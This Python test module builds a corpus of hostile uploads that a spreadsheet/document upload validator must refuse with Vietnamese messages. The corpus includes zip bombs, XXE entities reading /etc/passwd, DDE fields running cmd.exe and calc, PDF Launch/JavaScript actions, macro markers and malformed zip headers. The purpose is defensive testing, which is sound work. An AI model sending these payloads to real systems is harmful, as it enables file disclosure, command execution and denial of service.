"""A hostile corpus, built byte by byte: files that every upload point must refuse, in Vietnamese, touching nothing.

A case is a ``Case(name, content, words)``: the bytes uploaded and words the
refusal must contain. ``file_cases()`` are the same whatever the upload point
(what is not a workbook, zip bombs, XXE, rows and dimensions beyond the
limits); ``archive_cases(base)`` damage the zip of a valid file of that point
(bad CRC, lying sizes, names that differ, the encrypted flag, Deflate64);
``cell_cases(base, sheet, ref)`` put in one cell of a valid workbook what
Excel never writes there. Large cases are built once, streamed, and kept.
"""

import functools
import io
import random
import re
import struct
import zipfile
import zlib
from dataclasses import dataclass

import docx
import openpyxl
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

MiB = 1024 * 1024
XLS_HEADER = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


@dataclass(frozen=True)
class Case:
    name: str
    content: bytes
    words: str          # in the Vietnamese refusal
    file_name: str = "tep.xlsx"

    def __repr__(self):
        return self.name


# --- building zips -------------------------------------------------------------------


def zip_of(members, method=zipfile.ZIP_DEFLATED):
    """A zip of ``members`` (name → bytes, or name → a function writing into the open member)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in members.items():
            if callable(data):
                with archive.open(name, "w", force_zip64=True) as stream:
                    data(stream)
            else:
                archive.writestr(name, data)
    return buffer.getvalue()


def members_of(content):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def rewrite_member(content, member, transform):
    """The same zip with one member's bytes transformed (or added, from b"")."""
    members = members_of(content)
    members[member] = transform(members.get(member, b""))
    return zip_of(members)


def small_workbook(rows=(("Mã", "Giá trị"), ("A", 1))):
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(list(row))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def sheet_xml(rows_xml, dimension=""):
    ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return (f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{ns}">{dimension}'
            f"<sheetData>{rows_xml}</sheetData></worksheet>").encode()


def with_sheet(base, sheet_bytes, member="xl/worksheets/sheet1.xml"):
    return rewrite_member(base, member, lambda _: sheet_bytes)


# --- patching zip headers --------------------------------------------------------------
# Local header: signature, version, flags, method, time, date, crc, sizes, name and extra lengths.
_LOCAL = struct.Struct("<4sHHHHHIIIHH")
_CENTRAL = struct.Struct("<4sHHHHHHIIIHHHHHII")


def patch_member(content, member, *, flags=None, method=None, crc=None, size=None, local_name=None):
    """The zip with ``member``'s headers (local and central) saying something else than its data."""
    data = bytearray(content)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        info = archive.getinfo(member)
    offset = info.header_offset
    local = list(_LOCAL.unpack_from(data, offset))
    position = data.find(b"PK\x01\x02")
    central_at = None
    while position != -1:
        entry = _CENTRAL.unpack_from(data, position)
        name = bytes(data[position + _CENTRAL.size: position + _CENTRAL.size + entry[10]])
        if name.decode("utf-8", "replace") == member:
            central_at = position
            break
        position = data.find(b"PK\x01\x02", position + 4)
    central = list(_CENTRAL.unpack_from(data, central_at))
    for field, local_index, central_index in (("flags", 2, 3), ("method", 3, 4), ("crc", 6, 7), ("size", 8, 9)):
        value = {"flags": flags, "method": method, "crc": crc, "size": size}[field]
        if value is not None:
            local[local_index] = value
            central[central_index] = value
    _LOCAL.pack_into(data, offset, *local)
    _CENTRAL.pack_into(data, central_at, *central)
    if local_name is not None:
        start = offset + _LOCAL.size
        data[start:start + len(local_name)] = local_name.encode()
    return bytes(data)


# --- the cases --------------------------------------------------------------------------


def file_cases():
    """Cases that do not depend on the upload point."""
    text = "Mã ô,Giá trị\nind.NEWS_PRESS,12\n".encode()
    not_a_workbook = zip_of({"[Content_Types].xml": b"<Types/>", "noi-dung.txt": b"xin chao"})
    return [
        Case("rỗng", b"", "rỗng"),
        Case("văn bản đổi tên", text, "không phải"),
        Case(".xls (OLE2)", XLS_HEADER + b"\0" * 600, "97–2003"),
        Case("zip không phải bảng tính", not_a_workbook, "không phải"),
        Case("bom nén", zip_bomb(), "khi giải nén lớn bất thường"),
        Case("chuỗi dùng chung 93,5 MiB", shared_strings_bomb(), "khi giải nén lớn bất thường"),
        Case("XXE với DOCTYPE", xxe_workbook(), "DOCTYPE/ENTITY"),
        Case("300 000 dòng", many_rows(), "vượt giới hạn"),
        Case("vùng A1:XFD60001", wide_dimension(), "vượt giới hạn"),
        Case("600 thành phần", many_members(), "vượt giới hạn"),
        Case("không có trang tính", rewrite_member(small_workbook(), "xl/workbook.xml",
                                                   lambda data: re.sub(rb"<sheet [^>]*/>", b"", data)),
             "không có trang tính nào"),
        Case("trang biểu đồ", chart_sheet(), "trang biểu đồ"),
        Case("chuỗi dùng chung đặt chỗ khác", shared_strings_elsewhere(), "không có cấu trúc của một bảng tính"),
    ]


# Cases about how an import reads a workbook, not about the file itself: evidence is kept, not read, so
# a large, wide or unusual spreadsheet is a document like another there.
IMPORT_ONLY = {"300 000 dòng", "vùng A1:XFD60001", "không có trang tính", "trang biểu đồ",
               "chuỗi dùng chung đặt chỗ khác"}


def archive_cases(base, member):
    """A valid file of the upload point whose zip ``member`` is damaged one way or another."""
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        info = archive.getinfo(member)
    other_name = member[:-1] + ("x" if member[-1] != "x" else "y")
    return [
        Case("CRC sai", patch_member(base, member, crc=info.CRC ^ 0xFFFF), "bị hỏng"),
        Case("khai kích thước nhỏ hơn", patch_member(base, member, size=max(info.file_size // 2, 1)), "bị hỏng"),
        Case("khai kích thước lớn hơn", patch_member(base, member, size=info.file_size * 3), "bị hỏng"),
        Case("tên trong hai phần đầu khác nhau", patch_member(base, member, local_name=other_name), "bị hỏng"),
        Case("cờ mã hóa", patch_member(base, member, flags=info.flag_bits | 0x1), "mã hóa"),
        Case("nén Deflate64", patch_member(base, member, method=9), "nén theo cách"),
        Case("trang tính bị cắt cụt", rewrite_member(base, member, lambda data: data[:len(data) // 2]), "bị hỏng"),
    ]


def cell_cases(base, member, ref, *, numbers=True):
    """``base`` with cell ``ref`` of sheet part ``member`` holding what Excel never writes there.

    ``numbers``: the cell is read as a count, so huge and non-finite numbers are refused too.
    """
    def cell(xml):
        return rewrite_member(base, member, lambda data: set_cell(data, ref, xml))

    cases = [
        Case("“abc” trong ô số", cell(f'<c r="{ref}" t="n"><v>abc</v></c>'), "không đọc được giá trị “abc”"),
        Case("NaN trong ô số", cell(f'<c r="{ref}"><v>NaN</v></c>'), "không đọc được giá trị “NaN”"),
        Case("công thức", cell(f'<c r="{ref}"><f>1+1</f><v>2</v></c>'), "chứa công thức"),
    ]
    if numbers:
        cases += [
            Case("1E400", cell(f'<c r="{ref}"><v>1E400</v></c>'), "Số quá lớn"),
            Case("ngày tháng", cell(f'<c r="{ref}" t="d"><v>2024-03-01T00:00:00</v></c>'), "không phải là số"),
            Case("10^16", cell(f'<c r="{ref}"><v>10000000000000000</v></c>'), "Số quá lớn (tối đa 999.999.999.999.999)"),
            Case("1,5E+20", cell(f'<c r="{ref}"><v>1.5E+20</v></c>'), "Số quá lớn"),
        ]
    return cases


def set_cell(sheet, ref, cell_xml):
    """Sheet XML with cell ``ref`` replaced by ``cell_xml`` (added to its row, or a new row, when absent)."""
    text = sheet.decode()
    existing = re.compile(rf'<c r="{ref}"(?:[^>]*/>|[^>]*>.*?</c>)')
    if existing.search(text):
        return existing.sub(lambda _: cell_xml, text, count=1).encode()
    row = int(re.search(r"\d+", ref).group())
    opening = re.search(rf'<row r="{row}"[^>]*?(/?)>', text)
    if opening and opening.group(1):
        text = text[:opening.start()] + f'<row r="{row}">{cell_xml}</row>' + text[opening.end():]
    elif opening:
        close = text.index("</row>", opening.end())
        text = text[:close] + cell_xml + text[close:]
    else:
        text = text.replace("</sheetData>", f'<row r="{row}">{cell_xml}</row></sheetData>')
    return text.encode()


# --- the big ones, built once ----------------------------------------------------------


def _workbook_with(member, writer):
    members = members_of(small_workbook())
    members[member] = writer
    return zip_of(members)


@functools.cache
def zip_bomb():
    """A 200 MiB member of zeros in a file of a few hundred KB (a ratio of 1 000)."""
    def zeros(stream):
        block = b"\0" * MiB
        for _ in range(200):
            stream.write(block)
    return _workbook_with("xl/media/image1.png", zeros)


@functools.cache
def shared_strings_bomb():
    """The reported workbook: shared strings that inflate to 93,5 MiB from a few hundred KB."""
    def strings(stream):
        ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
        stream.write(f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{ns}">'.encode())
        block = b"<si><t>" + b"x" * 1000 + b"</t></si>"
        for _ in range(int(93.5 * MiB) // len(block)):
            stream.write(block)
        stream.write(b"</sst>")
    members = members_of(small_workbook())
    members["xl/sharedStrings.xml"] = strings
    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(
        b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
                     b'officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
    return zip_of(members)


@functools.cache
def many_rows(count=300_000):
    """300 000 rows and no dimension to warn of them: counted while inflating."""
    def rows(stream):
        ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
        stream.write(f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{ns}"><sheetData>'.encode())
        for start in range(1, count + 1, 10_000):
            stream.write("".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>'
                                 for n in range(start, min(start + 10_000, count + 1))).encode())
        stream.write(b"</sheetData></worksheet>")
    return _workbook_with("xl/worksheets/sheet1.xml", rows)


@functools.cache
def wide_dimension():
    """The reported 4,8 KB workbook: its sheet declares A1:XFD60001 (a billion cells padded by openpyxl)."""
    return with_sheet(small_workbook(), sheet_xml('<row r="1"><c r="A1"><v>1</v></c></row>',
                                                  '<dimension ref="A1:XFD60001"/>'))


@functools.cache
def xxe_workbook():
    sheet = sheet_xml('<row r="1"><c r="A1" t="inlineStr"><is><t>&secret;</t></is></c></row>')
    sheet = sheet.replace(b"?>", b'?><!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>', 1)
    return with_sheet(small_workbook(), sheet)


def chart_sheet():
    """A workbook whose relationships call its sheet a chart sheet: openpyxl would parse it whole."""
    chart = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/chartsheet"
    return rewrite_member(small_workbook(), "xl/_rels/workbook.xml.rels", lambda data: re.sub(
        rb'Type="[^"]*/worksheet"', b'Type="' + chart + b'"', data))


def shared_strings_elsewhere():
    """Shared strings declared at a sheet's place: what is counted row by row would be read whole."""
    return rewrite_member(small_workbook(), "[Content_Types].xml", lambda data: data.replace(
        b"</Types>", b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
                     b'officedocument.spreadsheetml.sharedStrings+xml"/></Types>'))


@functools.cache
def many_members():
    members = members_of(small_workbook())
    members.update({f"customXml/item{n}.xml": b"<x/>" for n in range(600)})
    return zip_of(members)



# --- evidence: PDFs, images, Word and Excel files that reviewers would open ------------------------


def pdf(open_action=None, password=None):
    """A one-page PDF, with ``open_action`` (a dict of PDF names and texts) run when it opens.

    ``password``: encrypted, opened with that password ("": restricted, but opens without one).
    """
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if open_action:
        action = DictionaryObject({NameObject(key): NameObject(value) if value.startswith("/") else
                                   TextStringObject(value) for key, value in open_action.items()})
        writer._root_object[NameObject("/OpenAction")] = action
    if password is not None:
        writer.encrypt(user_password=password, owner_password="chu-so-huu", algorithm="AES-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def image(kind, size=(40, 30)):
    buffer = io.BytesIO()
    Image.new("RGB", size, "navy").save(buffer, kind)
    return buffer.getvalue()


def word(text="Biên bản kiểm tra"):
    document = docx.Document()
    document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def with_body(document, xml):
    return rewrite_member(document, "word/document.xml", lambda data: data.replace(b"<w:body>", b"<w:body>" + xml, 1))


def png_claiming(width, height):
    """A PNG whose header claims ``width`` × ``height`` pixels: Pillow would allocate them all to decode it."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 1000))
            + chunk(b"IEND", b""))


def evidence_cases():
    """What an evidence upload must refuse beyond ``file_cases`` and ``archive_cases``."""
    split_dde = (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                 b'<w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>'
                 b'<w:r><w:instrText>EAUTO c:\\\\Windows\\\\System32\\\\cmd.exe "/k calc.exe"</w:instrText></w:r>'
                 b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    simple_dde = b'<w:p><w:fldSimple w:instr="DDE &quot;cmd&quot; &quot;/c calc&quot;"/></w:p>'
    book = small_workbook()
    dde_link = (b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>')
    remote_template = (b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                       b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                       b'relationships/attachedTemplate" Target="http://example.invalid/t.dotm" '
                       b'TargetMode="External"/></Relationships>')
    xxe = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document>&x;</w:document>'
    macro_type = rewrite_member(word(), "[Content_Types].xml", lambda data: data.replace(
        b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"))
    return [
        Case("“PDF” 9 byte", b"%PDF-1.7\n", "không phải là PDF đọc được", "ke-hoach.pdf"),
        Case("%PDF- rồi byte ngẫu nhiên", b"%PDF-" + random_bytes(20_000), "không phải là PDF đọc được", "ke-hoach.pdf"),
        Case("PDF chạy JavaScript", pdf({"/S": "/JavaScript", "/JS": "app.alert(1)"}), "JavaScript", "ke-hoach.pdf"),
        Case("PDF chạy chương trình", pdf({"/S": "/Launch", "/F": "calc.exe"}), "Launch", "ke-hoach.pdf"),
        Case("PDF đặt mật khẩu", pdf(password="mat-khau"), "đặt mật khẩu", "ke-hoach.pdf"),
        Case("PNG hỏng", b"\x89PNG\r\n\x1a\n" + random_bytes(2000), "không phải ảnh PNG", "anh.png"),
        Case("PNG 100 000 × 100 000", png_claiming(100_000, 100_000), "vượt giới hạn", "anh.png"),
        Case("JPEG hỏng", b"\xff\xd8\xff\xe0" + random_bytes(2000), "không phải ảnh JPEG", "anh.jpg"),
        Case("DOCX có trường DDEAUTO chia nhỏ", with_body(word(), split_dde), "DDE", "bien-ban.docx"),
        Case("DOCX có fldSimple DDE", with_body(word(), simple_dde), "DDE", "bien-ban.docx"),
        Case("DOCX có macro", rewrite_member(word(), "word/vbaProject.bin", lambda _: b"\0" * 64), "macro",
             "bien-ban.docx"),
        Case("DOCX kiểu có macro", macro_type, "macro", "bien-ban.docx"),
        Case("DOCX tải mẫu từ nơi khác", rewrite_member(word(), "word/_rels/settings.xml.rels",
                                                       lambda _: remote_template), "DDE", "bien-ban.docx"),
        Case("DOCX có XXE", rewrite_member(word(), "word/document.xml", lambda _: xxe), "DOCTYPE/ENTITY",
             "bien-ban.docx"),
        Case("DOCX bị cắt cụt", rewrite_member(word(), "word/document.xml", lambda data: data[:len(data) // 2]),
             "bị hỏng", "bien-ban.docx"),
        Case("XLSX có liên kết DDE", rewrite_member(book, "xl/externalLinks/externalLink1.xml", lambda _: dde_link),
             "DDE", "so-lieu.xlsx"),
        Case("XLSX có phần DDE đặt tên khác", rewrite_member(book, "xl/lien-ket.xml", lambda _: dde_link), "DDE",
             "so-lieu.xlsx"),
        Case("XLSX có công thức DDE", rewrite_member(book, "xl/worksheets/sheet1.xml", lambda data: set_cell(
            data, "C1", "<c r=\"C1\"><f>cmd|' /C calc'!A0</f></c>")), "DDE", "so-lieu.xlsx"),
        Case("XLSX có macro", rewrite_member(book, "xl/vbaProject.bin", lambda _: b"\0" * 64), "macro", "so-lieu.xlsx"),
    ]


def random_bytes(size, seed=6):
    return random.Random(seed).randbytes(size)
